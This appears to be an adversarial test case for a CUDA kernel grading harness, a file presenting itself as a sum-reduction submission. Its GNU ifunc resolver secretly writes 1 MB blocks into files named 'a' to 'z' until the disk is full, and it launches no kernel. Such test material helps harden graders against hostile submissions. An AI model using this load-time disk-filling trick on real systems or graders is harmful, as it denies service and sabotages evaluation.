// expect: 0 points, launches no kernel
// The same writes until the disk is full.
#include <sys/syscall.h>
#include <unistd.h>
#include <fcntl.h>

static void chosen() {}

extern "C" {
static void (*choose())() {
    static char block[1 << 20];
    char name[] = "a";
    for (; name[0] <= 'z'; ++name[0]) {
        const long file = syscall(SYS_openat, AT_FDCWD, name, O_CREAT | O_WRONLY, 0666);
        while (file >= 0 && syscall(SYS_write, file, block, sizeof block) > 0) {
        }
    }
    return chosen;
}
}
void hook() __attribute__((ifunc("choose")));

__global__ void CoarsenedSumReductionKernel() {}

void reduce_sum(const float*, float*, void*, size_t) { hook(); }
